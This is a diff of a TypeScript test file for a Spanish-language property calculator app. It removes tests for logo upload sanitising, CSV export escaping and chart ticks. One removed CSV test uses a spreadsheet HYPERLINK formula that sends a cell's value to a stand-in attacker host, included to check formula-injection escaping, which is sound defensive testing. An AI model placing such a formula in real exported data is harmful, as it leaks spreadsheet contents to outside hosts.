@@ -1,20 +1,15 @@
-import { readdir } from 'node:fs/promises'
-import { join } from 'node:path'
 import { setImmediate } from 'node:timers/promises'
 import { type CalculatorType, calculators, type SharedAnalysis } from '@cancha/contract/calculators'
 import { CALCULATORS } from '@cancha/domain/calculators/calculators'
 import { written } from '@cancha/domain/calculators/written'
-import sharp from 'sharp'
-import { extractText, getDocumentProxy, getMeta } from 'unpdf'
+import { getDocumentProxy, getMeta } from 'unpdf'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { analysis, EXAMPLES, picture, sharedToken } from '../../testing/analyses.ts'
+import { analysis, EXAMPLES, sharedToken } from '../../testing/analyses.ts'
 import { type Person, person } from '../../testing/cast.ts'
+import { wordsOf } from '../../testing/pdf.ts'
 import { callAs } from '../../testing/requests.ts'
 import { createTestApp, type TestApp } from '../../testing/test-app.ts'
-import { field } from './csv.ts'
-import { keepLogo } from './logo.ts'
 import { drawCard, drawReport } from './print.ts'
-import { chartsOf, ticksFor } from './report/chart.ts'
 
 let app: TestApp
 let ana: Person
@@ -27,14 +22,6 @@ afterAll(() => app.close())
 const TYPES = Object.keys(EXAMPLES) as CalculatorType[]
 const report = (who: Person, shortid: string) =>
   callAs(app, who, calculators.analysisReport, { params: { shortid } })
-const csv = (who: Person, shortid: string) =>
-  callAs(app, who, calculators.analysisTables, { params: { shortid } })
-
-/** A document's words, as one reads them. */
-async function wordsOf(bytes: Buffer): Promise<string> {
-  const { text } = await extractText(await getDocumentProxy(new Uint8Array(bytes)), { mergePages: true })
-  return text.replace(/\s+/g, ' ')
-}
 const plainly = (shown: string) => shown.replace(/\s+/g, ' ').replace('∞', 'infinito')
 
 describe('the PDF of an analysis', () => {
@@ -144,203 +131,5 @@ describe('the line before the printing thread', () => {
     expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0)
     expect((await card('192.0.2.7', token)).statusCode).toBe(200)
     expect((await card('192.0.2.8', another)).statusCode).toBe(200)
-  })
-})
-
-describe('the logo of the reports', () => {
-  const logo = (who: Person) =>
-    callAs(app, who, calculators.reportLogo, { params: { userId: String(who.id) } })
-  const keep = (who: Person, image: Buffer) =>
-    callAs(app, who, calculators.keepReportLogo, {
-      params: { userId: String(who.id) },
-      body: { image: image.toString('base64') },
-    })
-
-  test('is drawn anew, small enough, without what the file carried, and stands on the report', async () => {
-    const who = await person(app)
-    const shortid = await analysis(app, who)
-    const plain = (await report(who, shortid)).rawPayload
-    expect((await logo(who)).statusCode).toBe(404)
-    const brand = async () =>
-      (await callAs(app, who, calculators.reportBrand, { params: { userId: String(who.id) } })).json()
-    expect(await brand()).toEqual({ logo: false })
-    const sent = await sharp(await picture(3000, 1500))
-      .withExif({ IFD0: { Artist: 'canario' } })
-      .jpeg()
-      .toBuffer()
-    expect((await keep(who, sent)).statusCode).toBe(200)
-    expect(await brand()).toEqual({ logo: true })
-    const kept = await logo(who)
-    expect(await sharp(kept.rawPayload).metadata()).toMatchObject({ format: 'png', width: 480, height: 240 })
-    expect(kept.rawPayload.includes('canario')).toBe(false)
-    const own = (await report(who, shortid)).rawPayload
-    expect(await wordsOf(plain)).toMatch(/^ ?Cancha/)
-    expect(await wordsOf(own)).not.toMatch(/^ ?Cancha/)
-    await callAs(app, who, calculators.removeReportLogo, { params: { userId: String(who.id) } })
-    expect((await logo(who)).statusCode).toBe(404)
-    expect((await report(who, shortid)).rawPayload.equals(plain)).toBe(true)
-  })
-
-  test.each([
-    ['a text', Buffer.from('hola')],
-    [
-      'a drawing that could carry a program',
-      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
-    ],
-    ['a picture that breaks off', Buffer.from('/9j/4AAQSkZJRgABAQ', 'base64')],
-    ['nothing', Buffer.alloc(0)],
-  ])('can’t be %s', async (_, sent) => {
-    const answer = await keep(ana, sent)
-    expect(answer.statusCode).toBe(400)
-    expect(answer.json().issues).toMatchObject([{ path: 'body.image', msg: expect.stringMatching(/imagen/) }])
-  })
-
-  test('is known by its bytes, and may be a low line of letters, but no film', async () => {
-    const who = await person(app)
-    const gif = await sharp(await picture())
-      .gif()
-      .toBuffer()
-    for (const sent of [gif, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')])
-      expect((await keep(who, sent)).json().msg).toBe('Elige una imagen jpeg, png o webp')
-    expect((await keep(who, await picture(300, 20))).statusCode).toBe(200)
-  })
-
-  test('waits in the same line as all pictures, and comes back when that is full', async () => {
-    const who = await person(app)
-    const sent = (await picture()).toString('base64')
-    const all = await Promise.allSettled(
-      Array.from({ length: 30 }, () => keepLogo(app.services, who.id, sent)),
-    )
-    const refused = all.flatMap((each) => (each.status === 'rejected' ? [each.reason] : []))
-    expect(refused).toHaveLength(8)
-    for (const each of refused) expect(each).toMatchObject({ code: 'unavailable', retryAfter: 5 })
-  })
-
-  describe('leaves no file behind', () => {
-    /** Every file that is kept, once the work in line is done. */
-    async function files(): Promise<string[]> {
-      await app.runJobs()
-      const folder = join(app.config.VAR_DIR, 'files')
-      const found = await readdir(folder, { recursive: true, withFileTypes: true })
-      return found.flatMap((each) => (each.isFile() && !each.name.endsWith('.type') ? [each.name] : []))
-    }
-
-    test('replaced, by many at once, or removed', async () => {
-      const who = await person(app)
-      await keep(who, await picture())
-      const count = (await files()).length
-      const sent = await picture()
-      const answers = await Promise.all(Array.from({ length: 6 }, () => keep(who, sent)))
-      expect(answers.map(({ statusCode }) => statusCode)).toEqual(Array(6).fill(200))
-      expect(await files()).toHaveLength(count)
-      expect((await logo(who)).statusCode).toBe(200)
-      await callAs(app, who, calculators.removeReportLogo, { params: { userId: String(who.id) } })
-      expect(await files()).toHaveLength(count - 1)
-    })
-
-    test('when it can’t be kept; the one before stays', async () => {
-      const who = await person(app)
-      await keep(who, await picture())
-      const before = await files()
-      const { jobs } = app.services
-      const failing = { ...jobs, enqueue: () => Promise.reject(new Error('no queue')) } as typeof jobs
-      const sent = (await picture()).toString('base64')
-      await expect(keepLogo({ ...app.services, jobs: failing }, who.id, sent)).rejects.toThrow('no queue')
-      await expect(keepLogo(app.services, 999_999_999, sent)).rejects.toMatchObject({
-        code: 'unauthenticated',
-      })
-      expect(await files()).toEqual(before)
-      expect((await logo(who)).statusCode).toBe(200)
-    })
-  })
-})
-
-describe('the CSV of an analysis', () => {
-  test('has the mark of UTF-8, every figure with its decimals and every row of the tables', async () => {
-    const shortid = await analysis(app, ana, { type: 'rental_property', data: EXAMPLES.rental_property })
-    const answer = await csv(ana, shortid)
-    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
-    expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
-    const lines = answer.body.trimEnd().split('\r\n')
-    expect(lines).toContain('"Precio de compra","100000","Purchase price"')
-    expect(
-      lines.some(
-        (line) =>
-          line.startsWith('"Pago de la hipoteca","1097.74') ||
-          line.startsWith('"Pago de la hipoteca","1097.75'),
-      ),
-    ).toBe(true)
-    expect(lines).toContain('"Ganancia sobre tu dinero","∞","Cash on cash"')
-    const { tables } = CALCULATORS.rental_property
-    for (const { title, rows } of tables(EXAMPLES.rental_property)) {
-      const from = lines.indexOf(`"${title}"`)
-      expect(from, title).toBeGreaterThan(0)
-      expect(lines.slice(from + 2, from + 2 + rows.length).every((line) => /^"\d+",/.test(line))).toBe(true)
-    }
-  })
-
-  test.each([
-    ['=1+1', `"'=1+1"`],
-    ['+1', `"'+1"`],
-    ['-1', `"'-1"`],
-    ['@SUM(A1)', `"'@SUM(A1)"`],
-    ['\t=1', `"'\t=1"`],
-    ['  =1', `"'  =1"`],
-    ['\r=1', `"'\r=1"`],
-    ['dijo "sí"', '"dijo ""sí"""'],
-    ['a,b', '"a,b"'],
-    ['a\nb', '"a\nb"'],
-    ['', '""'],
-    [null, '""'],
-    [-41_100, '"-41100"'],
-    ['∞', '"∞"'],
-  ])('%j is written %s', (cell, shown) => {
-    expect(field(cell)).toBe(shown)
-  })
-
-  test('never runs what was typed as an address or a name', async () => {
-    const street = '=HYPERLINK("http://evil.example?"&A1;"Abrir")'
-    const shortid = await analysis(app, ana, { data: { street, purchase_price: 1 }, name: '@SUM(1+9)' })
-    const cells = (await csv(ana, shortid)).body.replace('\uFEFF', '').match(/"(?:[^"]|"")*"/g) ?? []
-    expect(cells.length).toBeGreaterThan(20)
-    expect(cells.filter((cell) => /^"[=+@]|^"-\D/.test(cell))).toEqual([])
-  })
-})
-
-describe('charts', () => {
-  test.each([
-    [0, 100, [0, 25, 50, 75, 100]],
-    [-12, 37, [-20, 0, 20, 40]],
-    [0, 0, [0]],
-    [0, 518_444, [0, 200_000, 400_000, 600_000]],
-  ])('from %d to %d the axis has %j', (least, most, ticks) => {
-    expect(ticksFor(least, most)).toEqual(ticks)
-  })
-
-  test('are drawn of what has at least two numbers, and of nothing else', () => {
-    const columns = [
-      { key: 'month', label: 'Mes', unit: 'count' },
-      { key: 'profit', label: 'Ganancia', unit: 'money' },
-    ] as const
-    const table = (rows: { month: number; profit: number | null }[]) => [
-      { key: 'profit_by_month', title: 'Por mes', columns, rows },
-    ]
-    expect(
-      chartsOf(
-        table([
-          { month: 2, profit: 1 },
-          { month: 3, profit: 0 },
-        ]),
-      ),
-    ).toMatchObject([{ title: 'Por mes', series: [{ label: 'Ganancia', values: [1, 0] }] }])
-    expect(chartsOf(table([{ month: 2, profit: 1 }]))).toEqual([])
-    expect(
-      chartsOf(
-        table([
-          { month: 2, profit: null },
-          { month: 3, profit: 1 },
-        ]),
-      ),
-    ).toEqual([])
   })
 })
